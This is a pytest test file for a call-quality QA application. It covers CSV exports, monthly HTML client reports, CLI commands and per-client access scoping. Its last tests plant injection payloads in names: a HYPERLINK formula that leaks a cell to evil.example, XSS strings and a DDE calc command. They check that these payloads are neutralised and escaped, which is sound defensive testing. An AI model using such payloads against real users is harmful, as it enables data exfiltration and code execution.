"""The evaluations CSV, the monthly client report, and the `export`/`report` commands.

Seed (tests/ui/seed.py): Acme Bank has Sara's and Ivan's calls, Globex has Gina's two; each
agent's calls score 80 (greeting failed), 100, and 60 (rude language: a critical fail).
"""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select

from qa.errors import AccessDenied
from qa.queries.evaluations_in_view import EvaluationFilter
from qa.queries.review import ReviewSubmission, VerdictDecision, submit_review
from qa.reports.evaluations_csv import HEADER, evaluations_csv
from qa.reports.monthly import build_monthly_report, month_range, monthly_report_html
from qa.storage.db import session_scope
from qa.storage.models import Agent, Client, Team
from tests.conftest import SQLITE_ONLY
from tests.qa.conftest import run_cli
from tests.ui.seed import Seeded
from tests.ui.seed import viewer_named as viewer

NOVEMBER = EvaluationFilter(start=date(2026, 11, 1), end=date(2026, 11, 30))


@pytest.fixture
def data(seeded_database: Seeded) -> Seeded:
    return seeded_database


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_has_one_row_per_counted_evaluation_with_its_call(data: Seeded) -> None:
    with session_scope(data.url) as session:
        text = evaluations_csv(session, NOVEMBER, viewer(data.url, "coach"))
    assert text.splitlines()[0] == ",".join(HEADER)
    rows = {row["call_id"]: row for row in rows_of(text)}
    assert sorted(rows) == ["gina-1", "gina-2", "ivan-1", "ivan-2", "ivan-3"] + [
        "sara-1",
        "sara-2",
        "sara-3",
    ]
    sara_1, sara_3 = rows["sara-1"], rows["sara-3"]
    assert (sara_1["client"], sara_1["team"], sara_1["agent"]) == (
        "Acme Bank",
        "Tehran Support",
        "Sara Ahmadi",
    )
    assert (sara_1["language"], sara_1["scorecard"], sara_1["scorecard_version"]) == (
        "fa",
        "politeness",
        "v1",
    )
    assert (sara_1["score"], sara_1["passed"], sara_1["failed_criteria"]) == (
        "80.0",
        "True",
        "greeting",
    )
    assert (sara_3["score"], sara_3["critical_failed"], sara_3["failed_criteria"]) == (
        "60.0",
        "True",
        "no_rude_language",
    )
    assert sara_1["evaluation_kind"] == "automatic" and sara_1["reviewer"] == ""
    assert sara_1["call_started_at"] == "2026-11-02T13:00:00+00:00"
    assert (sara_1["ring_seconds"], sara_1["handle_seconds"]) == ("4.0", "10.0")
    assert rows["sara-2"]["customer_feedback"] == "2.0"


def test_the_csv_follows_the_filters_and_the_client_viewers_scope(data: Seeded) -> None:
    globex = viewer(data.url, "globex")
    acme = data.clients["Acme Bank"]
    with session_scope(data.url) as session:
        own = rows_of(evaluations_csv(session, NOVEMBER, globex))
        crafted = EvaluationFilter(client_id=acme)
        stolen = rows_of(evaluations_csv(session, crafted, globex))
        ivan = rows_of(
            evaluations_csv(
                session, EvaluationFilter(agent_id=data.agents["ivan"]), viewer(data.url, "admin")
            )
        )
        with pytest.raises(AccessDenied):
            evaluations_csv(session, NOVEMBER, viewer(data.url, "sara"))
    assert [row["call_id"] for row in own] == ["gina-1", "gina-2"]
    assert stolen == []
    assert {row["agent"] for row in ivan} == {"Ivan Petrov"} and len(ivan) == 3


def test_the_monthly_report_shows_the_clients_kpis_and_charts(data: Seeded) -> None:
    with session_scope(data.url) as session:
        report = build_monthly_report(
            session, viewer(data.url, "globex"), data.clients["Globex"], date(2026, 11, 17)
        )
    assert report.month == date(2026, 11, 1)
    assert (report.tiles.evaluations, report.tiles.average_score) == (2, 90.0)
    assert report.previous.evaluations == 0
    page = monthly_report_html(report)
    assert "<h1>Globex</h1>" in page and "November 2026" in page and "October 2026" in page
    for kpi in (
        "<td>Average score</td><td class='number'>90.0</td>",
        "<td>Pass rate</td><td class='number'>100%</td>",
        "<td>Answered within 3 rings</td><td class='number'>100%</td>",
        "<td>Customer feedback</td><td class='number'>3.5 / 5</td>",
        "<td>Average handle time</td><td class='number'>10 s</td>",
    ):
        assert kpi in page
    assert page.count("Plotly.newPlot") == 3  # trend, failure rates, distribution
    assert page.count("* plotly.js v") == 1  # the library is embedded once, for offline reading
    assert "Gina Lopez" in page and "Sara Ahmadi" not in page


def test_a_client_viewer_cannot_build_another_clients_report(data: Seeded) -> None:
    with session_scope(data.url) as session, pytest.raises(AccessDenied):
        build_monthly_report(
            session, viewer(data.url, "globex"), data.clients["Acme Bank"], date(2026, 11, 1)
        )


def test_month_range_handles_month_ends() -> None:
    assert month_range(date(2026, 2, 14)) == (date(2026, 2, 1), date(2026, 2, 28))
    assert month_range(date(2026, 12, 31)) == (date(2026, 12, 1), date(2026, 12, 31))


def cli(database_url: str, home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_cli(*args, home=home, database_url=database_url, timeout=120)


def test_the_export_command_writes_a_clients_csv(data: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "exports" / "globex.csv"
    done = cli(
        data.url, tmp_path, "export", "--from", "2026-11-01", "--to", "2026-11-30",
        "--client", "Globex", "--out", str(out),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "wrote 2 evaluations" in done.stderr
    assert [row["call_id"] for row in rows_of(out.read_text(encoding="utf-8"))] == [
        "gina-1",
        "gina-2",
    ]
    # Without --out the CSV goes to standard output; the date range is inclusive.
    one_day = cli(data.url, tmp_path, "export", "--from", "2026-11-05", "--to", "2026-11-05")
    assert one_day.returncode == 0, one_day.stderr
    assert {row["call_id"] for row in rows_of(one_day.stdout)} == {"sara-2", "ivan-2", "gina-2"}


@SQLITE_ONLY  # argument errors and a missing client: which database answers does not matter
def test_the_export_command_fails_clearly_and_writes_nothing(data: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "nothing.csv"
    unknown = cli(
        data.url, tmp_path, "export", "--from", "2026-11-01", "--to", "2026-11-30",
        "--client", "Initech", "--out", str(out),
    )  # fmt: skip
    assert unknown.returncode == 1
    assert unknown.stderr.strip() == "error: there is no client named 'Initech'"
    backwards = cli(data.url, tmp_path, "export", "--from", "2026-11-30", "--to", "2026-11-01")
    assert backwards.returncode == 1
    assert "is after" in backwards.stderr and "Traceback" not in backwards.stderr
    bad_date = cli(data.url, tmp_path, "export", "--from", "yesterday", "--to", "2026-11-01")
    assert bad_date.returncode == 2
    assert not out.exists() and list(tmp_path.glob(".nothing.csv*")) == []


def test_the_report_command_writes_the_monthly_html(data: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "acme-2026-11.html"
    done = cli(
        data.url, tmp_path, "report", "--client", "Acme Bank", "--month", "2026-11",
        "--out", str(out),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    page = out.read_text(encoding="utf-8")
    assert "<h1>Acme Bank</h1>" in page
    assert "<td>Average score</td><td class='number'>80.0</td>" in page
    assert "Sara Ahmadi" in page and "Gina Lopez" not in page


def test_a_reviewed_call_exports_the_reviewers_evaluation(data: Seeded) -> None:
    decision = VerdictDecision("greeting", "pass", "The greeting is there, just quiet")
    with session_scope(data.url) as session:
        submission = ReviewSubmission(
            data.calls["gina-1"], {data.evaluations["gina-1"]: (decision,)}
        )
        submit_review(session, viewer(data.url, "reviewer"), submission)
    with session_scope(data.url) as session:
        rows = rows_of(evaluations_csv(session, NOVEMBER, viewer(data.url, "admin")))
    gina_1 = next(row for row in rows if row["call_id"] == "gina-1")
    assert (gina_1["evaluation_kind"], gina_1["reviewer"]) == ("human", "Rita Reviewer")
    assert (gina_1["score"], gina_1["failed_criteria"]) == ("100.0", "")
    assert len(rows) == 8  # the review replaces the automatic evaluation, it adds no row


HOSTILE = {
    "agent": '=HYPERLINK("http://evil.example/?"&A1,"click")<img src=x onerror=alert(1)>',
    "team": "</script><script>alert(2)</script>",
    "client": "+cmd|' /C calc'!A0<b>",
}


def _make_names_hostile(url: str) -> None:
    with session_scope(url) as session:
        agent = session.scalars(select(Agent).where(Agent.name == "Gina Lopez")).one()
        agent.name = HOSTILE["agent"]
        team = session.get_one(Team, agent.team_id)
        team.name = HOSTILE["team"]
        session.get_one(Client, team.client_id).name = HOSTILE["client"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(data: Seeded) -> None:
    _make_names_hostile(data.url)
    with session_scope(data.url) as session:
        text = evaluations_csv(session, NOVEMBER, viewer(data.url, "coach"))
    rows = [r for r in rows_of(text) if r["call_id"].startswith("gina")]
    assert rows
    for row in rows:
        assert row["agent"] == "'" + HOSTILE["agent"]
        assert row["client"] == "'" + HOSTILE["client"]
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "'-" not in text  # numbers stay numbers


def test_the_html_report_escapes_every_value(data: Seeded) -> None:
    _make_names_hostile(data.url)
    with session_scope(data.url) as session:
        client_id = session.scalar(select(Client.id).where(Client.name == HOSTILE["client"]))
        assert client_id is not None
        report = build_monthly_report(
            session, viewer(data.url, "admin"), client_id, date(2026, 11, 17)
        )
    page = monthly_report_html(report)
    assert "<img src=x" not in page and "<script>alert" not in page and "<b>" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
